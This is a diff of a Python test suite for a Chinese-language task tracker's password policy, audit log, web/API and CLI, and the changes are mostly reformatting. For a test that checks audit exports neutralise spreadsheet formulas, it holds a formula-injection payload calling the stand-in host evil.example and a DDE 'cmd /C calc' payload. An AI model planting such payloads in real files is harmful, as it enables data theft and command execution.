@@ -3,6 +3,7 @@
 The data layer runs on SQLite and PostgreSQL (the `engine` fixture); pages and the API through TestClient,
 the `rectify users` commands through CliRunner.
 """
+
 from __future__ import annotations
 
 import csv
@@ -30,6 +31,7 @@ INJECTION = '=HYPERLINK("http://evil.example/"&A1,"详情")'
 @pytest.fixture
 def policy(monkeypatch):
     """Change the policy's settings for one test: policy(RECTIFY_PASSWORD_MAX_AGE_DAYS="90")."""
+
     def change(**env: str) -> None:
         for k, v in env.items():
             monkeypatch.setenv(k, v)
@@ -43,13 +45,16 @@ def policy(monkeypatch):
 # The policy itself
 # ---------------------------------------------------------------------------------------------------
 
+
 def test_policy_says_what_is_missing():
     assert passwords.problems(GOOD) == []
     assert passwords.problems("abc") == [
         "长度至少 10 位（现为 3 位）",
-        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 1 类，还可加入：大写字母、数字、符号）"]
+        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 1 类，还可加入：大写字母、数字、符号）",
+    ]
     assert passwords.problems("abcdefghij1") == [
-        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 2 类，还可加入：大写字母、符号）"]
+        "须包含大写字母、小写字母、数字、符号中的至少 3 类（现有 2 类，还可加入：大写字母、符号）"
+    ]
     assert passwords.problems("abcdefghij-1") == []  # lower, digit, symbol
     assert passwords.problems("ABCDEFGHIJ中1") == []  # a Chinese character counts as a symbol
     assert "控制字符" in passwords.problems("Abcdefgh-1\n")[0]
@@ -60,7 +65,8 @@ def test_policy_follows_the_settings(policy):
     assert passwords.problems(GOOD) == ["长度至少 14 位（现为 13 位）"]
     assert passwords.problems("Good-pass-1234") == []
     assert passwords.problems("good-pass-1234") == [
-        "须包含大写字母、小写字母、数字、符号中的至少 4 类（现有 3 类，还可加入：大写字母）"]
+        "须包含大写字母、小写字母、数字、符号中的至少 4 类（现有 3 类，还可加入：大写字母）"
+    ]
     assert "至少 14 位" in passwords.describe() and "至少 4 类" in passwords.describe()
 
 
@@ -79,6 +85,7 @@ def test_a_bad_policy_setting_is_named(policy):
 # ---------------------------------------------------------------------------------------------------
 # Data layer (SQLite and PostgreSQL)
 # ---------------------------------------------------------------------------------------------------
+
 
 @pytest.fixture
 def people(engine):
@@ -105,8 +112,9 @@ def test_weak_passwords_are_refused_everywhere_they_are_set(people):
         with pytest.raises(ValidationFailed, match="还可加入：大写字母、符号"):
             users.set_password(s, name="xili", password="abcdefgh12", actor=admin)
         with pytest.raises(ValidationFailed, match="密码不符合要求"):
-            users.change_password(s, user=users.get_user(s, name="xili"), current_password=GOOD,
-                                  new_password="abcdefghijk")
+            users.change_password(
+                s, user=users.get_user(s, name="xili"), current_password=GOOD, new_password="abcdefghijk"
+            )
 
 
 def test_the_last_five_passwords_are_not_reused(people):
@@ -191,9 +199,15 @@ def test_user_changes_are_audited(people):
         users.set_role(s, name="新人", role="township", township="西里镇", actor=admin)
         users.issue_token(s, name="xili", actor=admin)
     got = [(e.actor, e.action, e.entity) for e in _events(people, entity="user")]
-    assert got == [("本机操作员", "create", "user"), ("本机操作员", "create", "user"),
-                   ("admin", "create", "user"), ("admin", "password_reset", "user"), ("admin", "disable", "user"),
-                   ("admin", "role", "user"), ("admin", "token", "user")]
+    assert got == [
+        ("本机操作员", "create", "user"),
+        ("本机操作员", "create", "user"),
+        ("admin", "create", "user"),
+        ("admin", "password_reset", "user"),
+        ("admin", "disable", "user"),
+        ("admin", "role", "user"),
+        ("admin", "token", "user"),
+    ]
     role = _events(people, action="role")[0]
     assert role.before["role"] == "county_staff" and role.after["role"] == "township"
     assert all(e.address is None for e in _events(people))  # no request: no client address
@@ -211,13 +225,18 @@ def test_audit_search_filters_and_pages(people):
         f = audit.parse_filters(actor="用户1", action="export", entity="ledger")
         assert audit.search(s, actor=admin, filters=f).total == 20
         today = utcnow().date()
-        f = audit.parse_filters(since=(today - timedelta(days=1)).isoformat(), until=(today + timedelta(days=1)).isoformat())
+        f = audit.parse_filters(
+            since=(today - timedelta(days=1)).isoformat(), until=(today + timedelta(days=1)).isoformat()
+        )
         assert audit.search(s, actor=admin, filters=f).total == 62
         f = audit.parse_filters(until=(today - timedelta(days=2)).isoformat())
         assert audit.search(s, actor=admin, filters=f).total == 0
         assert audit.search(s, actor=admin, filters=audit.parse_filters(actor="%")).total == 0  # no wildcard
-        for bad, message in ((dict(since="2024-13-01"), "开始日期应为日期"), (dict(action="drop"), "操作类型“drop”无效"),
-                             (dict(since="2024-03-02", until="2024-03-01"), "开始日期不能晚于结束日期")):
+        for bad, message in (
+            (dict(since="2024-13-01"), "开始日期应为日期"),
+            (dict(action="drop"), "操作类型“drop”无效"),
+            (dict(since="2024-03-02", until="2024-03-01"), "开始日期不能晚于结束日期"),
+        ):
             with pytest.raises(ValidationFailed, match=message):
                 audit.parse_filters(**bad)
         staff = users.create_user(s, name="staff", role="county_staff", password=GOOD)
@@ -230,8 +249,15 @@ def test_audit_search_filters_and_pages(people):
 
 def test_audit_exports_keep_formulas_as_text(people):
     with session_scope(people) as s:
-        audit.record(s, actor=audit.clean_name(INJECTION), action="login_failed", entity="user", entity_id=0,
-                     reason="+cmd|' /C calc'!A0", address="10.0.0.2")
+        audit.record(
+            s,
+            actor=audit.clean_name(INJECTION),
+            action="login_failed",
+            entity="user",
+            entity_id=0,
+            reason="+cmd|' /C calc'!A0",
+            address="10.0.0.2",
+        )
         admin = users.get_user(s, name="admin")
         data = audit.export_csv(s, actor=admin, filters=audit.parse_filters(action="login_failed"))
         book = audit.export_xlsx(s, actor=admin, filters=audit.parse_filters(action="login_failed"))
@@ -255,20 +281,24 @@ def test_nothing_in_the_app_changes_or_deletes_audit_records():
 
     source = inspect.getsource(audit)
     assert not re.search(r"\b(update|delete)\(", source)
+    from fastapi import FastAPI
+
     from tests.test_permissions import route_keys
     from tracker.web import pages
-    from fastapi import FastAPI
 
     probe = FastAPI()
     for router in pages.routers:
         probe.include_router(router)
-    assert {k for k in route_keys(probe) if k[1].startswith("/audit")} == {("GET", "/audit"),
-                                                                        ("GET", "/audit/export.{fmt}")}
+    assert {k for k in route_keys(probe) if k[1].startswith("/audit")} == {
+        ("GET", "/audit"),
+        ("GET", "/audit/export.{fmt}"),
+    }
 
 
 # ---------------------------------------------------------------------------------------------------
 # The web and the API
 # ---------------------------------------------------------------------------------------------------
+
 
 @pytest.fixture(scope="module")
 def site(tmp_path_factory):
@@ -300,12 +330,17 @@ def test_logins_and_logouts_are_audited_with_the_client_address(site):
     login(client, OWN)
     client.post("/logout", headers={"X-CSRF-Token": _csrf(client)})
     with session_scope(engine) as s:
-        rows = s.execute(select(AuditEvent.actor, AuditEvent.action, AuditEvent.address, AuditEvent.reason)
-                         .where(AuditEvent.entity == "user", AuditEvent.action.in_(("login", "login_failed", "logout")))
-                         .order_by(AuditEvent.id)).all()
-    assert [(a, b, c) for a, b, c, _ in rows[-4:]] == [(OWN, "login_failed", "testclient"),
-                                                       ("不存在的人", "login_failed", "testclient"),
-                                                       (OWN, "login", "testclient"), (OWN, "logout", "testclient")]
+        rows = s.execute(
+            select(AuditEvent.actor, AuditEvent.action, AuditEvent.address, AuditEvent.reason)
+            .where(AuditEvent.entity == "user", AuditEvent.action.in_(("login", "login_failed", "logout")))
+            .order_by(AuditEvent.id)
+        ).all()
+    assert [(a, b, c) for a, b, c, _ in rows[-4:]] == [
+        (OWN, "login_failed", "testclient"),
+        ("不存在的人", "login_failed", "testclient"),
+        (OWN, "login", "testclient"),
+        (OWN, "logout", "testclient"),
+    ]
     assert rows[-4][3] and "密码" in rows[-4][3]
 
 
@@ -313,11 +348,14 @@ def test_forced_change_after_an_admin_creates_the_account(site):
     admin = _client(site, ADMIN)
     page = admin.get("/users")
     assert '<option value="township" selected>' in page.text  # the least powerful role first
-    r = admin.post("/users", data={"name": "新科员", "role": "county_staff", "password": "short",
-                                   "csrf_token": csrf_from(page.text)})
+    r = admin.post(
+        "/users",
+        data={"name": "新科员", "role": "county_staff", "password": "short", "csrf_token": csrf_from(page.text)},
+    )
     assert r.status_code == 422 and "密码不符合要求：长度至少 10 位（现为 5 位）" in r.text
-    r = admin.post("/users", data={"name": "新科员", "role": "county_staff", "password": GOOD,
-                                   "csrf_token": csrf_from(page.text)})
+    r = admin.post(
+        "/users", data={"name": "新科员", "role": "county_staff", "password": GOOD, "csrf_token": csrf_from(page.text)}
+    )
     assert r.status_code == 200 and "首次登录须先修改密码" in r.text
 
     new = _client(site, "新科员", GOOD)  # logs in, lands on the change form
@@ -326,14 +364,30 @@ def test_forced_change_after_an_admin_creates_the_account(site):
     api = new.get("/api/v1/tasks")
     assert api.status_code == 403 and "请先修改密码" in api.json()["detail"]
     csrf = _csrf(new)
-    r = new.post("/account/password", data={"current_password": GOOD, "new_password": "Mine-pass-1",
-                                            "confirm_password": "Mine-pass-2", "csrf_token": csrf})
+    r = new.post(
+        "/account/password",
+        data={
+            "current_password": GOOD,
+            "new_password": "Mine-pass-1",
+            "confirm_password": "Mine-pass-2",
+            "csrf_token": csrf,
+        },
+    )
     assert r.status_code == 422 and "两次输入的新密码不一致" in r.text
-    r = new.post("/account/password", data={"current_password": GOOD, "new_password": "minepass",
-                                            "confirm_password": "minepass", "csrf_token": csrf})
+    r = new.post(
+        "/account/password",
+        data={"current_password": GOOD, "new_password": "minepass", "confirm_password": "minepass", "csrf_token": csrf},
+    )
     assert r.status_code == 422 and "长度至少 10 位（现为 8 位）" in r.text
-    r = new.post("/account/password", data={"current_password": GOOD, "new_password": "Mine-pass-1",
-                                            "confirm_password": "Mine-pass-1", "csrf_token": csrf})
+    r = new.post(
+        "/account/password",
+        data={
+            "current_password": GOOD,
+            "new_password": "Mine-pass-1",
+            "confirm_password": "Mine-pass-1",
+            "csrf_token": csrf,
+        },
+    )
     assert r.status_code == 200 and "密码已修改" in r.text
     assert new.get("/api/v1/tasks").status_code == 200
 
@@ -341,22 +395,31 @@ def test_forced_change_after_an_admin_creates_the_account(site):
 def test_forced_change_through_the_api_with_a_token(site):
     admin = _client(site, ADMIN)
     csrf = _csrf(admin)
-    r = admin.post("/api/v1/users", json={"name": "接口用户", "role": "county_staff", "password": "weakweak"},
-                   headers={"X-CSRF-Token": csrf})
+    r = admin.post(
+        "/api/v1/users",
+        json={"name": "接口用户", "role": "county_staff", "password": "weakweak"},
+        headers={"X-CSRF-Token": csrf},
+    )
     assert r.status_code == 422 and "密码不符合要求" in r.json()["detail"]
-    r = admin.post("/api/v1/users", json={"name": "接口用户", "role": "county_staff", "password": GOOD},
-                   headers={"X-CSRF-Token": csrf})
+    r = admin.post(
+        "/api/v1/users",
+        json={"name": "接口用户", "role": "county_staff", "password": GOOD},
+        headers={"X-CSRF-Token": csrf},
+    )
     assert r.status_code == 201 and r.json()["must_change_password"] is True
     with session_scope(site[1]) as s:
         token = users.issue_token(s, name="接口用户")
     bearer = {"Authorization": f"Bearer {token}"}
     client = TestClient(site[0])
     r = client.get("/api/v1/tasks", headers=bearer)
-    assert r.status_code == 403 and r.json()["detail"] == "账号由管理员创建或密码已被管理员重置，请先修改密码后再继续使用"
+    assert (
+        r.status_code == 403 and r.json()["detail"] == "账号由管理员创建或密码已被管理员重置，请先修改密码后再继续使用"
+    )
     r = client.post("/api/v1/account/password", json={"current_password": GOOD, "new_password": "abc"}, headers=bearer)
     assert r.status_code == 422 and "长度至少 10 位" in r.json()["detail"]
-    r = client.post("/api/v1/account/password", json={"current_password": GOOD, "new_password": "Api-pass-123"},
-                    headers=bearer)
+    r = client.post(
+        "/api/v1/account/password", json={"current_password": GOOD, "new_password": "Api-pass-123"}, headers=bearer
+    )
     assert r.status_code == 200 and r.json() == {"detail": "密码已修改"}
     # a password change ends the user's sessions and API tokens (tracker/sessions.py): a new token works
     assert client.get("/api/v1/tasks", headers=bearer).status_code == 401
@@ -439,7 +502,12 @@ def test_cli_policy_forced_change_and_last_admin(engine, cli_env, monkeypatch):
     with session_scope(engine) as s:
         assert [u.role for u in s.execute(select(User).order_by(User.id)).scalars()] == ["county_staff", "county_admin"]
         assert [e.action for e in s.execute(select(AuditEvent).order_by(AuditEvent.id)).scalars()] == [
-            "create", "create", "password_reset", "role", "role"]
+            "create",
+            "create",
+            "password_reset",
+            "role",
+            "role",
+        ]
 
 
 def test_county_admins_read_their_own_countys_journal(people):
